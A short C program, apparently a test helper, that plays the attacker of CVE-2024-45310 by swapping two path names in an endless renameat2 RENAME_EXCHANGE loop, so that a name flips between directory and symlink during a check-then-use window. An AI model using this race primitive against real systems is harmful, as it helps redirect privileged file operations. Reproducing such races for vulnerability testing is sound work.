/* SPDX-License-Identifier: Apache-2.0 */

/*
 * swap A B: exchanges the two names as fast as it can until it is killed: the attacker of
 * CVE-2024-45310, who wants a name to be a directory when it is looked at and a symlink when it is
 * used.
 */

#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
		perror("renameat2");
		return 1;
	}
	for (;;)
		(void)renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
